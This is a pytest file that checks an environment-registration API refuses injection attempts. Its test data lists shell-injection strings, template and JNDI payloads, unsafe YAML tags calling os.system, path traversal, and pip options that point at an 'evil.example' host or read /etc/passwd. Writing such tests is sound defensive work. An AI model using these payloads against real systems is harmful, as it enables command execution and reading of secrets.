"""Fields of an environment that want to be commands, lines of a Dockerfile, templates, objects or addresses."""

from __future__ import annotations

from typing import Any

import pytest

from tests.support.problems import assert_problem
from tests.support.registry import node, snapshot
from tests.support.wheels import file_name, wheel

BREAKS = [
    "x\nRUN touch {}",
    "x && touch {}",
    "x; touch {}",
    "x | touch {}",
    "`touch {}`",
    "$(touch {})",
    "x # syntax=y",
]
TEMPLATES = ["{{7*7}}", "{0.__class__}", "${jndi:ldap://x}", "%s%n"]
OPTIONS = [
    *("--index-url https://evil.example", "-i https://evil.example", "--extra-index-url=https://evil.example"),
    *("-r /etc/passwd", "-c /etc/passwd", "-e .", "-e git+ssh://git@evil.example/x", "--find-links /tmp", "--pre"),
    *(
        "six @ file:///etc/passwd",
        "six@https://evil.example/six.whl",
        "git+https://evil.example/x",
        "./six",
        "/etc/passwd",
    ),
    *("https://evil.example/six.whl", "file:///etc/passwd", "six==1.0 \\", "six --hash=sha256:00", "six; touch x"),
]
OBJECTS = [
    "!!python/object/apply:os.system [touch {}]",
    "dependencies: [!!python/object/apply:os.system ['touch {}']]",
    "dependencies:\n- pip:\n  - !!python/name:os.system ''",
    "variables: {{A: !!python/object/new:os.system ['touch {}']}}",
    "name: !!python/module:os ''\ndependencies: !!python/tuple [a]",
]


@pytest.fixture(autouse=True)
def host(api) -> None:
    node(api, "attacked-node", pythons=("3.11.7",))


@pytest.fixture
def touched(tmp_path):
    """What a command that is carried out would make."""
    path = tmp_path / "touched"
    yield path
    assert not path.exists()


def register(api, w, **body: Any):
    return api.admin.post(f"{w}/environments/env/versions", json=body)


def with_docker(**docker: Any) -> dict[str, Any]:
    return {"definition": {"docker": docker}}


FIELDS = {
    "base_image": lambda text: {"pip_requirements": "", "base_image": text},
    "registry": lambda text: {
        "pip_requirements": "",
        "base_image": "x",
        "base_image_registry": {"address": text, "username": "u", "password": "p"},
    },
    "build_context": lambda text: {"pip_requirements": "", "build_context": {"snapshot": text}},
    "dockerfile": lambda text: {"pip_requirements": "", "dockerfile": f"# syntax={text}\nFROM x"},
    "python_version": lambda text: {"pip_requirements": "", "python_version": text},
    "wheels": lambda text: {"wheels": text},
    "baseImage": lambda text: with_docker(baseImage=text),
    "shmSize": lambda text: with_docker(shmSize=text),
    "architecture": lambda text: with_docker(platform={"architecture": text}),
    "buildContext": lambda text: with_docker(buildContext={"location": text}),
    "registry of a definition": lambda text: with_docker(
        baseImage="x", baseImageRegistry={"address": text, "username": "u", "password": "p"}
    ),
    "interpreterPath": lambda text: {"definition": {"python": {"interpreterPath": text}}},
    "inferencingStackVersion": lambda text: {"definition": {"inferencingStackVersion": text}},
    "name": lambda text: {"definition": {"name": text}},
    "conda package": lambda text: {"definition": {"python": {"condaDependencies": {"dependencies": [text]}}}},
    "pip line": lambda text: {"definition": {"python": {"condaDependencies": {"dependencies": [{"pip": [text]}]}}}},
    "channel": lambda text: {
        "definition": {"python": {"condaDependencies": {"channels": [text], "dependencies": ["x"]}}}
    },
    "variable": lambda text: {"pip_requirements": "", "environment_variables": {text: "x"}},
}


@pytest.mark.parametrize("text", [*BREAKS, *TEMPLATES])
@pytest.mark.parametrize("field", FIELDS)
def test_a_field_is_never_more_than_a_field(api, w, touched, field, text):
    response = register(api, w, **FIELDS[field](text.replace("{}", str(touched))))

    assert response.status_code == 422, response.text


@pytest.mark.parametrize("line", OPTIONS)
@pytest.mark.parametrize("kind", ["pip_requirements", "conda_file", "definition"])
def test_options_and_addresses_in_a_requirement_are_refused_by_their_line(api, w, kind, line):
    dependencies = {"dependencies": ["python=3.11", {"pip": ["idna", line]}]}
    body = {
        "pip_requirements": f"idna\n{line}",
        "conda_file": repr(dependencies).replace("\\\\", "\\"),
        "definition": {"python": {"condaDependencies": dependencies}},
    }

    problem = assert_problem(register(api, w, **{kind: body[kind]}), "environment-invalid")

    assert problem["line"] == line


@pytest.mark.parametrize("text", OBJECTS)
def test_yaml_makes_no_objects(api, w, touched, text):
    assert_problem(register(api, w, conda_file=text.replace("{}", str(touched))), "environment-invalid")


@pytest.mark.parametrize("text", [*TEMPLATES, *BREAKS, "$HOME", "%(here)s"])
def test_a_value_comes_back_as_it_was_sent(api, w, text):
    made = register(api, w, pip_requirements="", environment_variables={"A": text})

    assert made.json()["environment_variables"] == {"A": text}
    given_back = api.admin.get(f"{w}/environments/env/versions/latest/definition").json()
    assert given_back["environmentVariables"] == {"A": text}


@pytest.mark.parametrize(
    "path", [*("../Dockerfile", "/etc/passwd", "a/../../x", "a\nRUN x", "$(touch x)/..", "a\\b", "x\0y")]
)
def test_a_dockerfile_lies_in_its_context(api, w, path):
    digest = snapshot(api.admin, w, {"Dockerfile": b"FROM x"})["digest"]

    context = {"snapshot": digest, "dockerfile": path}
    assert register(api, w, pip_requirements="", build_context=context).status_code == 422


@pytest.mark.parametrize(
    "line", ["x @ file:///etc/passwd", "x @ http://127.0.0.1:1/x.whl", "x @ git+file:///x", "-r /x"]
)
def test_what_a_private_wheel_needs_leads_nowhere_else(api, w, line):
    digest = snapshot(api.admin, w, {file_name("acme"): wheel("acme", "1.0", line)})["digest"]

    assert_problem(register(api, w, wheels=digest), "environment-invalid")
